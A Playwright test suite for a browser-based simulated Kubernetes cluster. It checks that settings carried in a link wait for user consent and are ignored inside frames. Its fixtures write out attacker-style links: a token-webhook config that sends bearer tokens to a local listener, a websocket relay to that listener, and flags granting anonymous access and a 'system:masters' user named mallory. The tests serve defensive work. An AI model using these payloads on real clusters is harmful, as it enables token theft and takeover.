import { type BrowserContext, expect, type Page } from '@playwright/test'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { accessibleInBothThemes } from './page-controls'
import { DEFAULT_MINOR, ready } from './site'
import { test } from './test'
const KEY = 'sesame-4711'
/** Each kind of link, as an attacker would write it. */
const LINKS: Readonly<Record<string, (stranger: string) => string>> = {
  flags: (stranger) =>
    `flags=${encodeURIComponent(
      `--authentication-token-webhook-version=v1 --authentication-token-webhook-config-file=data:text/yaml,${encodeURIComponent(
        `{apiVersion: v1, kind: Config, clusters: [{name: a, cluster: {server: "${stranger}/tokens"}}], users: [{name: a, user: {}}], contexts: [{name: a, context: {cluster: a, user: a}}], current-context: a}`,
      )}`,
    )}`,
  relay: (stranger) => `relay=${encodeURIComponent(`${stranger.replace('http', 'ws')}/key`)}`,
  both: (stranger) => `flags=--release%3D1.20&relay=${encodeURIComponent(`${stranger.replace('http', 'ws')}/key`)}`,
}

const heard: string[] = []
let stranger: Server
let address = ''

test.beforeAll(async () => {
  stranger = createServer((request, response) => {
    heard.push(`${request.method ?? ''} ${request.url ?? ''}`)
    response.setHeader('access-control-allow-origin', '*').setHeader('access-control-allow-headers', '*').end('{}')
  })
  stranger.on('upgrade', (request, socket) => {
    heard.push(`UPGRADE ${request.url ?? ''}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve))
  address = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
})
test.afterAll(() => void stranger.close())
test.beforeEach(() => void heard.splice(0))

const question = (page: Page) => page.getByRole('dialog', { name: 'A link asks to change this cluster' })
const minor = (page: Page) =>
  page.evaluate(async () => ((await (await fetch('/version')).json()) as { minor: string }).minor)
const showToken = (page: Page) =>
  page.evaluate(async (token) => {
    await fetch('/api/v1/namespaces', { headers: { authorization: `Bearer ${token}` } })
  }, KEY)

async function withContent(context: BrowserContext): Promise<void> {
  const page = await context.newPage()
  await page.goto('./')
  await ready(page)
  await page.evaluate(async () => {
    const body = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'mine' } })
    await fetch('/api/v1/namespaces/default/secrets', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body,
    })
  })
  await page.close()
}

for (const [way, link] of Object.entries(LINKS)) {
  test(`${way} change nothing in a cluster with content before the user answers, nor after a refusal`, async ({
    page,
    context,
  }) => {
    await withContent(context)
    await page.goto(`./?${link(address)}`)
    await ready(page)
    await expect(question(page)).toBeVisible()
    await expect(page.getByRole('button', { name: 'Keep my cluster' })).toBeFocused()
    await showToken(page)
    expect(heard).toEqual([])
    await page.keyboard.press('Enter')
    await expect(question(page)).toBeHidden()
    expect(page.url()).not.toMatch(/flags=|relay=|link=/)
    await showToken(page)
    await page.reload()
    await ready(page)
    await showToken(page)
    await expect(question(page)).toBeHidden()
    expect([heard, await minor(page)]).toEqual([[], DEFAULT_MINOR])
  })

  test(`${way} are ignored inside a frame, which the page says`, async ({ page, context }) => {
    await withContent(context)
    await page.goto('./')
    await ready(page)
    await page.evaluate((search) => {
      const frame = document.createElement('iframe')
      frame.src = `./?${search}`
      frame.style.cssText = 'position: fixed; inset: 0; width: 100vw; height: 100vh; z-index: 9999'
      document.body.append(frame)
    }, link(address))
    const frame = page.frameLocator('iframe[src]')
    await expect(frame.getByText('shown inside another page')).toBeVisible()
    await expect(frame.getByRole('dialog')).toHaveCount(0)
    await showToken(page)
    expect([heard, await minor(page)]).toEqual([[], DEFAULT_MINOR])
  })
}

test('flags of a link that the user accepts last until the tab closes, and are saved only on request', async ({
  page,
  context,
}) => {
  await withContent(context)
  await page.goto('./?flags=--release%3D1.20')
  await ready(page)
  await question(page).getByRole('button', { name: 'Try without saving' }).click()
  await expect(page.getByText('runs with settings from a link')).toBeVisible()
  await expect.poll(() => minor(page)).toBe('20')
  await page.reload()
  await ready(page)
  await expect(page.getByText('runs with settings from a link')).toBeVisible()
  await expect.poll(() => minor(page)).toBe('20')
  await page.close()
  const next = await context.newPage()
  await next.goto('./')
  await ready(next)
  await expect.poll(() => minor(next)).toBe(DEFAULT_MINOR)

  await next.goto('./?flags=--release%3D1.22')
  await ready(next)
  await question(next).getByRole('button', { name: 'Use and save' }).click()
  await expect(question(next)).toBeHidden()
  await next.goto('./')
  await ready(next)
  await expect.poll(() => minor(next)).toBe('22')
})

test('an empty cluster applies the flags of a link at once, says so, saves nothing and can go back', async ({
  page,
}) => {
  await page.goto('./?flags=--release%3D1.20')
  await ready(page)
  await expect.poll(() => minor(page)).toBe('20')
  await page.getByRole('button', { name: 'Use the saved settings' }).click()
  await expect.poll(() => minor(page)).toBe(DEFAULT_MINOR)
  await expect(page.getByText('runs with settings from a link')).toBeHidden()
})

test('an address of the interface fills in a request and never sends it', async ({ page, context }) => {
  await withContent(context)
  await page.goto('./#/console?method=DELETE&path=%2Fapi%2Fv1%2Fnamespaces%2Fdefault%2Fsecrets%2Fmine')
  await ready(page)
  await expect(page.getByRole('button', { name: 'Send', exact: true })).toBeVisible()
  expect(await page.evaluate(async () => (await fetch('/api/v1/namespaces/default/secrets/mine')).status)).toBe(200)
})

test('the dialog shows each flag that a link changes and what the change can do', async ({ page, context }) => {
  await withContent(context)
  const flags = `--anonymous-auth=true --release=1.20 --token-auth-file=data:,${KEY},mallory,1,"system:masters"`
  await page.goto(`./?flags=${encodeURIComponent(flags)}&${LINKS.relay?.(address) ?? ''}`)
  const changes = question(page).getByRole('list', { name: 'Changes' })
  await expect(changes.getByRole('listitem')).toHaveCount(4)
  await expect(changes).toContainText('requests without credentials')
  await expect(changes).toContainText('Opens the API of this cluster to programs on this machine')
  await expect(page.locator('body')).not.toContainText(KEY)
  expect(page.url()).not.toContain(KEY)
  await accessibleInBothThemes(page)
  await page.keyboard.press('Escape')
  await expect(question(page)).toBeHidden()
})
